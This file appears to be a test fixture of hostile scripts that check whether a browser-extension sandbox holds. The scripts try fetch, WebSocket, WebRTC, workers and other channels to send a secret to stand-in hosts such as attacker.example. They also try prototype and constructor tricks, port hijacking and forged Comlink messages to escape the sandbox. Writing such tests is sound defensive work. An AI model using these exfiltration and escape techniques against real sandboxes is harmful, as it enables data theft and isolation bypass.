// Hostile remixlets (script.js sources) that try every channel of tests/corpora/sandbox-leak-channels.json
// that remixlet code could reach, and every trick to get back the real globals. Each address is built at
// run time (R(...)), so the save-time check lets the script through and the sandbox is what is tested.
// Every probe records whether it threw and with what; the spec asserts the witnesses saw nothing.
import { WITNESS_IP } from '../harness/socket-witness';
import { PROBE_KIT } from './kit';

const PRIVATE_UDP_PORT = '__PRIVATE_UDP_PORT__';

/** Fills in the port of the test's own UDP witness (harness PrivateUdpWitness). */
export const withPrivateUdpPort = (script: string, port: number): string => script.replaceAll(PRIVATE_UDP_PORT, String(port));

/** Where hostile traffic would go: witness hosts and this run's socket witnesses (WITNESS_IP). */
const TARGETS = String.raw`
const secret = 'hunter2-' + Math.random().toString(36).slice(2, 8);
const hex = [...secret].map((c) => c.charCodeAt(0).toString(16)).join('');
const web = (path) => R('http://', 'attacker.example', '/hostile-', path, '?d=', secret);
const tls = (path) => R('https://', 'leaking.via', '/hostile-', path, '?d=', secret);
const ip = (path) => R('http://', '${WITNESS_IP}:47474', '/hostile-', path);
// The test's own UDP witness (an ephemeral port, filled in by withPrivateUdpPort), where the WebTransport control aims too.
const privateUdp = (path) => R('https://', '${WITNESS_IP}:', '${PRIVATE_UDP_PORT}', '/hostile-', path);
const iceServers = [
  { urls: R('stun:', '${WITNESS_IP}:3478') },
  { urls: R('stun:', hex, '.attacker.example:3478') },
  { urls: R('turn:', '${WITNESS_IP}:3478?transport=udp'), username: secret, credential: 'x' },
  { urls: R('turn:', '${WITNESS_IP}:3478?transport=tcp'), username: secret, credential: 'x' },
  { urls: R('turn:', '${WITNESS_IP}:47474?transport=tcp'), username: secret, credential: 'x' },
  { urls: R('turns:', '${WITNESS_IP}:5349?transport=tcp'), username: secret, credential: 'x' },
];
const rtc = (PC) => { const pc = new PC({ iceServers }); pc.createDataChannel('d'); return pc.createOffer().then((o) => pc.setLocalDescription(o)); };
`;

/** The network channels, as a function body that can run in the runtime realm or in a nested worker. */
const NETWORK_PROBES = String.raw`
await probe('fetch http', () => fetch(web('fetch')));
await probe('fetch https', () => fetch(tls('fetch')));
await probe('fetch ip literal (direct TCP)', () => fetch(ip('fetch')));
await probe('XMLHttpRequest', () => { const x = new XMLHttpRequest(); x.open('GET', web('xhr')); x.send(); return 'sent'; });
await probe('sendBeacon', () => navigator.sendBeacon(web('beacon'), secret));
await probe('fetchLater', () => fetchLater(web('fetch-later')));
await probe('WebSocket ws', () => new WebSocket(R('ws://', 'attacker.example', '/hostile-ws?d=', secret)));
await probe('WebSocket wss', () => new WebSocket(R('wss://', 'attacker.example', '/hostile-wss?d=', secret)));
await probe('WebSocketStream', () => new WebSocketStream(R('ws://', 'attacker.example', '/hostile-wss-stream')));
await probe('EventSource', () => new EventSource(web('es')));
await probe('WebTransport (QUIC to the UDP witness)', () => new WebTransport(R('https://', '${WITNESS_IP}:47474', '/hostile-wt')));
await probe("WebTransport (QUIC to this test's own UDP witness)", () => new WebTransport(privateUdp('wt')));
await probe('RTCPeerConnection STUN/TURN', () => rtc(RTCPeerConnection));
await probe('webkitRTCPeerConnection', () => rtc(webkitRTCPeerConnection));
await probe('RTC* constructors left', () => Object.getOwnPropertyNames(globalThis).filter((n) => /RTC/.test(n) && typeof globalThis[n] === 'function').join(',') || 'none');
await probe('dynamic import remote', () => import(web('import.js')));
await probe('importScripts remote', () => importScripts(web('import-scripts.js')));
await probe('Worker from a remote address', () => new Worker(web('worker.js')));
await probe('Worker from data:', () => new Worker(R('data:text/javascript,', 'fetch("', web('data-worker'), '")')));
await probe('SharedWorker', () => new SharedWorker(URL.createObjectURL(new Blob([R('fetch("', web('shared-worker'), '")')]))));
await probe('service worker', () => navigator.serviceWorker.register(web('sw.js')));
await probe('FontFace', () => new FontFace('x', R('url(', web('font'), ')')).load());
await probe('fonts', () => fonts.load('12px x'));
await probe('WebAssembly streaming', () => WebAssembly.compileStreaming(new Response(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]), { headers: { 'content-type': 'application/wasm' } })));
await probe('Notification', () => new Notification(secret));
await probe('window.open', () => open(web('popup')));
await probe('caches', () => caches.open('x'));
await probe('indexedDB', () => indexedDB.open('x'));
await probe('BroadcastChannel', () => new BroadcastChannel('x').postMessage(secret));
await probe('credentials (FedCM)', () => navigator.credentials.get({ identity: { providers: [{ configURL: web('fedcm.json'), clientId: 'x' }] } }));
await probe('PaymentRequest', () => new PaymentRequest([{ supportedMethods: web('pay') }], { total: { label: 'x', amount: { currency: 'USD', value: '1' } } }).canMakePayment());
await probe('document (links, forms, frames, images, CSS)', () => document.createElement('link'));
await probe('Image', () => { const i = new Image(); i.src = web('image'); return i.ownerDocument; });
`;

/** Runtime realm: every network channel, plus forged messages to whatever embeds it. */
export const DIRECT = `${PROBE_KIT}${TARGETS}${NETWORK_PROBES}
await probe('postMessage to the embedder, forged boot', () => postMessage({ kind: 'remixlet-boot', script: R('fetch("', web('forged-boot'), '")'), page: { url: 'https://x/', title: '' }, apiVersion: 1, extensionVersion: '0' }));
await probe('self.postMessage forged Comlink call', () => self.postMessage({ id: 'x', type: 'APPLY', path: ['log'], argumentList: [{ type: 'RAW', value: { level: 'info', message: 'forged' } }] }));
await probe('dom creates a link, a form, a frame', async () => {
  const out = [];
  for (const tag of ['link', 'form', 'iframe', 'script', 'meta']) {
    try { await dom.create(tag, { attrs: { href: web('dom-' + tag), src: web('dom-' + tag), action: web('dom-' + tag) } }); out.push(tag + ' created'); }
    catch (e) { out.push(tag + ' ' + (e.code || e.name)); }
  }
  return out.join(', ');
});
await report('direct');
`;

/** A worker the remixlet starts from blob: (it gets the lockdown prelude), and one that worker starts. */
export const NESTED = `${PROBE_KIT}
const nestedSource = ${'`'}${PROBE_KIT.replace(/`/g, '\\`').replace(/\$\{/g, '\\${')}
const rmx = { log: (line) => postMessage(line) };
${TARGETS.replace(/`/g, '\\`').replace(/\$\{/g, '\\${')}
(async () => {
${NETWORK_PROBES.replace(/`/g, '\\`').replace(/\$\{/g, '\\${')}
await probe('a worker started by a worker', () => new Promise((resolve, reject) => {
  const inner = new Worker(URL.createObjectURL(new Blob([R('try { fetch("', web('nested-nested'), '"); postMessage("fetch ran"); } catch (e) { postMessage(e.message); }')])));
  inner.onmessage = (e) => resolve(e.data);
  inner.onerror = (e) => reject(new Error(e.message));
}));
await report('in-worker');
postMessage('done');
})();
${'`'};
const lines = [];
await probe('nested worker', () => new Promise((resolve, reject) => {
  const w = new Worker(URL.createObjectURL(new Blob([nestedSource])));
  w.onmessage = (e) => { if (e.data === 'done') resolve(lines.length + ' lines'); else lines.push(e.data); };
  w.onerror = (e) => reject(new Error(e.message));
  setTimeout(() => resolve('timed out with ' + lines.length + ' lines'), 15000);
}));
for (const line of lines) await rmx.log(line);
await report('nested');
`;

/** Tricks to get the real globals back, and to use them if they worked. */
export const RECOVER = String.raw`${PROBE_KIT}${TARGETS}
const NAMES = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'importScripts', 'RTCPeerConnection', 'webkitRTCPeerConnection', 'postMessage'];
const C = R('constr', 'uctor');
const used = [];
const tryUse = (name, fn) => {
  if (typeof fn !== 'function') return;
  used.push(name);
  try { if (/RTC/.test(name)) rtc(fn); else if (name === 'fetch') fn.call(globalThis, web('recovered-' + name)); else new fn(web('recovered-' + name)); } catch {}
};
await probe('prototype walk', () => {
  const found = [];
  for (let o = globalThis; o; o = Object.getPrototypeOf(o)) {
    for (const name of NAMES) {
      const d = Object.getOwnPropertyDescriptor(o, name);
      if (d && typeof d.value === 'function') { found.push((o.constructor && o.constructor.name) + '.' + name); tryUse(name, d.value); }
    }
  }
  return found.join(',') || 'nothing';
});
await probe('descriptor getter', () => Object.getOwnPropertyDescriptor(globalThis, 'fetch').get.call(globalThis));
await probe('Reflect.get', () => Reflect.get(globalThis, 'fetch'));
await probe('interface prototypes', () => ['WorkerGlobalScope', 'DedicatedWorkerGlobalScope', 'EventTarget'].map((i) => i + ':' + NAMES.filter((n) => globalThis[i] && Object.getOwnPropertyDescriptor(globalThis[i].prototype, n)).join('+')).join(' '));
await probe('this in a timer callback', () => new Promise((resolve) => setTimeout(function () { resolve(this === globalThis ? 'the worker global' : String(this)); }, 0)));
await probe('this in a sloppy-looking callback', () => [1].map(function () { return typeof this; })[0]);
await probe('globalThis through a listener', () => new Promise((resolve) => {
  const t = new EventTarget();
  t.addEventListener('x', function (e) { resolve([typeof this.document, e.composedPath().length, typeof e.target.ownerDocument].join(' ')); });
  t.dispatchEvent(new Event('x'));
}));
await probe('MessageEvent source', () => new Promise((resolve) => {
  const ch = new MessageChannel();
  ch.port1.onmessage = (e) => resolve([String(e.source), e.target.constructor.name].join(' '));
  ch.port2.postMessage(1);
}));
await probe('Function via constructor chain', () => [][C][C](R('return fe', 'tch'))());
await probe('AsyncFunction', () => Object.getPrototypeOf(async function () {})[C](R('return 1'))());
await probe('GeneratorFunction', () => Object.getPrototypeOf(function* () {})[C](R('yield 1'))().next());
await probe('AsyncGeneratorFunction', () => Object.getPrototypeOf(async function* () {})[C](R('yield 1'))().next());
await probe('eval', () => globalThis[R('ev', 'al')](R('1+1')));
await probe('string timer', () => setTimeout(R('fetch("', web('string-timer'), '")'), 0));
await probe('Image().ownerDocument', () => new Image().ownerDocument);
await probe('window is a stand-in', () => [String(Object.getPrototypeOf(window)), typeof window.postMessage, typeof window.fetch, Object.keys(window).join('+')].join(' '));
await probe('location is a stand-in', () => { try { location.assign(web('nav')); } catch (e) { return e.name + ': ' + e.message; } return 'assigned'; });
await probe('Worker.prototype.constructor', () => { const W = Worker.prototype[C]; return [W === Worker, String(W).slice(0, 40)].join(' '); });
await probe('native Worker through an instance', () => {
  const w = new Worker(URL.createObjectURL(new Blob(['1'])));
  const W = w[C];
  w.terminate();
  return new W(URL.createObjectURL(new Blob([R('fetch("', web('instance-worker'), '")')])), {}) && (W === Worker ? 'only the wrapper' : 'native!');
});
await probe('URL.createObjectURL replaced back', () => { URL.createObjectURL = () => 'blob:x'; return URL.createObjectURL(new Blob([])); });
await probe('dom and rmx are frozen', () => { 'use strict'; dom.query = () => 1; return 'replaced'; });
await probe('runtime internals', () => [typeof globalThis.__remixletFailed, Object.getOwnPropertyNames(dom).join('+'), Object.getOwnPropertyNames(rmx).join('+')].join(' | '));
await probe('recovered and used', () => used.join(',') || 'nothing');

// The offscreen host's port: steal it by hooking MessagePort.prototype.postMessage, then speak Comlink raw.
let stolen;
const hook = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (...args) { stolen = this; return hook.apply(this, args); };
await rmx.log('hooking the port');
MessagePort.prototype.postMessage = hook;
await probe('port stolen', () => (stolen ? 'yes' : 'no'));
// A forged message must stay unanswered (a second is long enough to show one that would be answered at once);
// the well-formed call must be answered, and gets a deadline only a hang would miss.
const raw = (message, transfer = [], wait = 1000) => new Promise((resolve) => {
  const id = 'forged-' + Math.random();
  const onAnswer = (e) => { if (e.data && e.data.id === id) { stolen.removeEventListener('message', onAnswer); resolve(e.data); } };
  stolen.addEventListener('message', onAnswer);
  stolen.postMessage({ ...message, id }, transfer);
  setTimeout(() => resolve('no answer'), wait);
});
await probe('Comlink GET of the host', () => raw({ type: 'GET', path: [] }));
await probe('Comlink SET on Object.prototype', () => raw({ type: 'SET', path: ['log', '__proto__', '__proto__', 'remixletPolluted'], value: { type: 'RAW', value: secret } }));
await probe('Comlink SET on Function.prototype', () => raw({ type: 'SET', path: ['dom', '__proto__', 'remixletPolluted'], value: { type: 'RAW', value: secret } }));
await probe('Comlink APPLY Function', () => raw({ type: 'APPLY', path: ['dom', C], argumentList: [{ type: 'RAW', value: R('fetch("', web('offscreen-function'), '")') }] }));
await probe('Comlink CONSTRUCT', () => raw({ type: 'CONSTRUCT', path: ['dom'], argumentList: [] }));
await probe('Comlink ENDPOINT', () => raw({ type: 'ENDPOINT' }));
await probe('Comlink APPLY with a proxy argument', () => { const { port1 } = new MessageChannel(); return raw({ type: 'APPLY', path: ['log'], argumentList: [{ type: 'HANDLER', name: 'proxy', value: port1 }] }, [port1]); });
await probe('Comlink APPLY log, well formed', () => raw({ type: 'APPLY', path: ['log'], argumentList: [{ type: 'RAW', value: { level: 'info', message: 'said through the stolen port' } }] }, [], 60000));
await report('recover');
`;

/** Floods its own stolen port: the offscreen host tears the sandbox down rather than stall the others. */
export const PORT_FLOOD = String.raw`
let stolen;
const hook = MessagePort.prototype.postMessage;
MessagePort.prototype.postMessage = function (...args) { stolen = this; return hook.apply(this, args); };
await rmx.log('flooding');
MessagePort.prototype.postMessage = hook;
for (let i = 0; i < 5000; i++) stolen.postMessage({ id: 'f' + i, type: 'GET', path: ['dom'] });
`;
